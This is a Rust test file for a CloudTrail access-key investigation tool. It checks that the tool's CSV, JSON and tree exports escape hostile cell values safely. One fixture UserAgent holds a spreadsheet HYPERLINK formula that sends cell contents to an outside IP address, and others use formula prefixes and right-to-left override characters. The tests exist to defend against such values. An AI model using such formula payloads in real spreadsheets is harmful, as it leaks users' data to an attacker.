//! Tables, the chain as JSON, and the tree.

use super::*;

/// A table as it comes out of a CSV reader: a map for each row.
fn read_csv(table: Table<'_>) -> Vec<HashMap<String, String>> {
    let mut out = Vec::new();
    table.write(Format::Csv, &mut out).unwrap();
    csv::Reader::from_reader(&out[..])
        .deserialize()
        .map(Result::unwrap)
        .collect()
}

#[test]
fn the_events_are_the_chains_in_order_with_safe_cells() {
    let held = held();
    let table = tables::events(&held.investigation, &Filter::default());
    assert_eq!(
        table.columns().join(","),
        "EventTime,EventName,Username,SourceIPAddress,UserAgent,errorCode,errorMessage,Region,EventId,EventSource,\
         AccessKeyId,PrincipalId,PrincipalArn,IdentityType,AccountId,ReadOnly,Resources,Category,Severity,Technique,Node,\
         Actor,RawSha256,ClassifiedBy"
    );
    let rows = read_csv(table);
    let column = |name: &str| rows.iter().map(|row| row[name].clone()).collect::<Vec<_>>();
    assert_eq!(column("EventId"), ["event-1", "event-2", "event-5", "event-9"]);
    assert_eq!(column("Node"), [SEED, OTHER, OTHER, OTHER]);
    assert_eq!(column("errorCode"), ["", "", "", "AccessDenied"]);
    assert_eq!(column("errorMessage"), ["", "", "", "'-no\\u{9}no"]);
    assert_eq!(rows[2]["Resources"], "arn:aws:s3:::a; +b");
    assert_eq!(rows[1]["PrincipalArn"], "arn:aws:iam::111122223333:user/app");
    assert_eq!(rows[1]["RawSha256"], hex::encode(records()[2].sha256));
    assert_eq!((&*rows[1]["ReadOnly"], &*rows[1]["Username"]), ("false", "app"));
    assert_eq!(column("ClassifiedBy"), ["catalogue"; 4]);
    assert!(!rows[1]["Category"].is_empty() && rows[1]["Technique"].starts_with('T'));
    assert_eq!(
        rows[0]["UserAgent"],
        "'=HYPERLINK(\"http://203.0.113.66/\"&A1,\"\\u{202e}x\")\\u{d}\\u{a}\\u{0},\""
    );
}

#[test]
fn the_other_tables_say_what_the_investigation_knows() {
    let held = held();
    let investigation = &held.investigation;
    let chain = read_csv(tables::chain(investigation));
    let user = chain.iter().find(|row| row["Kind"] == "user").unwrap();
    assert_eq!(
        (&*user["Name"], &*user["ParentNode"], &*user["Link"]),
        ("'@x\\u{202e}y", OTHER, "created")
    );
    assert_eq!(
        (&*user["Deleted"], &*user["DeletedBy"]),
        ("2026-01-01T00:00:20Z", "AKIAEXAMPLEADMIN0001")
    );
    assert_eq!(chain[0]["ParentNode"], "");
    assert_eq!(chain[1]["Verdict"], "malicious");

    let coverage = read_csv(crate::export::coverage(investigation));
    assert_eq!(
        (
            &*coverage[0]["Records"],
            &*coverage[0]["Files"],
            &*coverage[0]["Status"]
        ),
        ("12", "2", "read")
    );
    assert_eq!((&*coverage[1]["Source"], &*coverage[1]["Status"]), ("'=b", "partial"));
    assert_eq!(coverage[1]["Note"], "line 3: cut off; at least 2 records lost");

    let playbook = playbook();
    let standings = Standings::of(&playbook, investigation, &Names::of(investigation, at()), at());
    let table = tables::checklist(investigation, &playbook, &standings);
    assert!(
        table
            .columns()
            .join(",")
            .starts_with("Step,Item,Title,TimeBox,State,By,At,Note,Progress,Proof,ProofAt")
    );
    let checklist = read_csv(table);
    assert_eq!((&*checklist[0]["State"], &*checklist[0]["Note"]), ("done", "'=done"));
    assert_eq!((&*checklist[1]["State"], &*checklist[1]["At"]), ("open", ""));
    assert_eq!(checklist[0]["Progress"], "done by hand");
    assert_eq!(checklist[1]["Seen"], "iam:CreateUser 1 and 1 failed");
    assert_eq!(checklist[1]["Proof"], "the chain called iam:CreateUser 1");

    assert_eq!(read_csv(crate::export::actors(investigation))[0]["Events"], "4");
    let resources = read_csv(crate::export::resources(investigation));
    let [sign, bucket] = &resources[..] else {
        panic!("{resources:?}")
    };
    assert_eq!(
        (&*sign["Id"], &*bucket["Id"], &*bucket["Calls"]),
        ("'+b", "arn:aws:s3:::a", "DeleteObject")
    );
    assert_eq!(read_csv(tables::files(investigation))[1]["Sha256"], "cd".repeat(32));
}

#[test]
fn the_chain_json_keeps_its_contract() {
    let held = held();
    let mut out = Vec::new();
    write_chain(&held.investigation, Format::Json, &mut out).unwrap();
    let text = String::from_utf8(out).unwrap();
    assert!(!text.chars().any(|c| c != '\n' && text::hides(c)), "{text}");
    let chain: Value = serde_json::from_str(&text).unwrap();
    for (member, value) in [
        ("format", json!("keytrail-chain/1")),
        ("seed", json!(SEED)),
        ("seeds", json!([SEED])),
        ("account", json!(ACCOUNT)),
        ("seed_minted_by", json!(null)),
        (
            "events",
            json!({"read": 12, "duplicates": 0, "seed": 1, "chain": 4, "failed": 1}),
        ),
    ] {
        assert_eq!(chain[member], value, "{member}");
    }
    let nodes = chain["nodes"].as_array().unwrap();
    assert_eq!(
        (&nodes[0]["link"], &nodes[0]["event"], &nodes[0]["parent"]),
        (&json!("seed"), &json!(null), &json!(null))
    );
    let user = nodes.iter().find(|node| node["kind"] == "user").unwrap();
    for (member, value) in [
        ("node", json!("event-2")),
        ("parent_node", json!(OTHER)),
        ("id", json!("arn:aws:iam::111122223333:user/@x\u{202e}y")),
        ("name", json!("@x\u{202e}y")),
        ("principal_id", json!("AIDAEXAMPLENEWUSER")),
        ("parent", json!(OTHER)),
        ("link", json!("created")),
        ("verdict", json!("unknown")),
        (
            "event",
            json!({"id": "event-2", "name": "CreateUser", "source": "iam.amazonaws.com", "region": "us-east-1",
            "time": "2026-01-01T00:00:02Z"}),
        ),
        ("events", json!(0)),
        ("first_seen", json!(null)),
        ("last_seen", json!(null)),
        (
            "deleted",
            json!({"time": "2026-01-01T00:00:20Z", "event_id": "event-20", "by": "AKIAEXAMPLEADMIN0001"}),
        ),
    ] {
        assert_eq!(user[member], value, "{member}");
    }
    assert!(user["actor"].as_str().unwrap().starts_with("203.0.113.66"));
    assert_eq!(nodes[1]["used_by"].as_array().unwrap().len(), 1);
    let attempt = &chain["attempts"][0];
    assert_eq!(
        (&attempt["event_id"], &attempt["error"]),
        (&json!("event-9"), &json!("AccessDenied"))
    );
}

#[test]
fn a_seed_that_was_minted_says_by_whom() {
    let held = held_from(OTHER);
    assert_eq!(
        chain_json(&held.investigation)["seed_minted_by"],
        json!({"id": "event-1", "name": "CreateAccessKey", "source": "iam.amazonaws.com", "region": "us-east-1",
            "time": "2026-01-01T00:00:01Z", "by": SEED})
    );
}

#[test]
fn the_tree_hangs_children_under_their_parents() {
    let mut out = Vec::new();
    write_chain(&held().investigation, Format::Text, &mut out).unwrap();
    insta::assert_snapshot!(String::from_utf8(out).unwrap(), @r"
    access key AKIAIOSFODNN7EXAMPLE, 1 call
    └─ access key AKIAI44QH8DHBEXAMPLE, minted, 2026-01-01T00:00:01Z CreateAccessKey, 3 calls, malicious
       └─ user arn:aws:iam::111122223333:user/@x\u{202e}y, created, 2026-01-01T00:00:02Z CreateUser, ended 2026-01-01T00:00:20Z

    12 records read, 0 copies; signed with the seed: 1, with keys of the chain: 4, failed: 1

    Tried and failed:
      2026-01-01T00:00:09Z  CreateUser  AccessDenied
    ");
}
